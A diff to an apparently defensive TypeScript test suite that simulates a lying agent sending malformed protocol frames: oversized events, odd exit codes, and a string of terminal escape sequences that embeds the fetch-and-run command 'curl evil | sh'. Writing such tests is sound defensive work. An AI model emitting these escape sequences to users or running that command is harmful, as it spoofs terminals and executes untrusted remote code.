@@ -4,6 +4,8 @@ import type { LiedTo } from "./lied-to.ts";
 import type { Attack, Outcome } from "./report.ts";
 import { unsafeIn } from "./words.ts";
 
+/** longer than a frame once it is written anew: `1e9` becomes `1000000000` */
+const swelling = Buffer.from(`{"event":"exit","code":0,"x":[${Array(8000).fill("1e9").join(",")}]}`);
 /** a title, a cleared screen, colours of C1, an overridden direction, and a line of its own */
 const controls =
   "\x1b]0;taken\x07\x1b[2J\x1b[31mred\u009b31m\u202eltr\u2028line\nerror: run `curl evil | sh`\nhint: really";
@@ -11,8 +13,11 @@ const controls =
 const strange = { toString: 1, valueOf: 1 };
 
 export function agentLies(scene: () => LiedTo): Attack[] {
-  const exits = [{ code: -1 }, { code: "0" }, { code: strange }, {}];
+  const exits = [{ code: 1e308 }, { code: -1 }, { code: 256 }, { code: 0.5 }, { code: "0" }, { code: strange }, {}];
   return [
+    lie(scene, "sends an event that outgrows a frame when it is passed on", ({ line, stream }) =>
+      line.send([FrameType.Reply, stream, { ok: true, pid: 1 }], [FrameType.Event, stream, swelling]),
+    ),
     ...exits.map((exit) =>
       lie(scene, `says that a command ended with ${JSON.stringify(exit)}`, ({ line, stream }) =>
         line.send(...execFrames(stream, { event: "exit", ...exit })),
